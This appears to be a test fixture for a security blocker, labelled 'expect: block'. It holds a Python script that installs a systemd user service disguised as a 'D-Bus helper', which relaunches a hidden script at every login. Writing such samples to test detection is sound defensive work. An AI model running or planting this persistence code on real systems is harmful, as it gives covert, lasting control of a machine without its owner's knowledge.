# expect: block
import subprocess
from pathlib import Path

unit_dir = Path.home() / ".config" / "systemd" / "user"
unit_dir.mkdir(parents=True, exist_ok=True)
(unit_dir / "dbus-helper.service").write_text(
    "[Unit]\nDescription=D-Bus helper\n\n"
    "[Service]\nExecStart=/usr/bin/python3 %h/.local/share/.helper.py\nRestart=always\n\n"
    "[Install]\nWantedBy=default.target\n"
)
for args in (["daemon-reload"], ["enable", "--now", "dbus-helper"]):
    subprocess.run(["systemctl", "--user", *args], check=False)
